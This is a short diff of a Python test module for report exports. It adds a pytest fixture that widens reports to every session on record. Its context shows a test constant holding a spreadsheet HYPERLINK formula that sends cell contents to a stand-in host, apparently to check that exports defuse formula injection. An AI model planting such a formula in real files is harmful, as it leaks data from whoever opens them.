@@ -30,6 +30,14 @@ from tests.factories import (
     make_facilitator_user,
 )
 
+
+@pytest.fixture(autouse=True)
+def every_session_on_record(settings):
+    """The reports here are read over every session on record, not only the current program
+    year they open on (see ``test_reports_program_year.py``)."""
+    settings.EDUCATION_PROGRAM_YEAR_START = None
+
+
 #: What someone might type as a name to run a formula on the computer of whoever opens the file.
 FORMULA = '=HYPERLINK("http://example.com/?leak="&A1,"Open")'
 
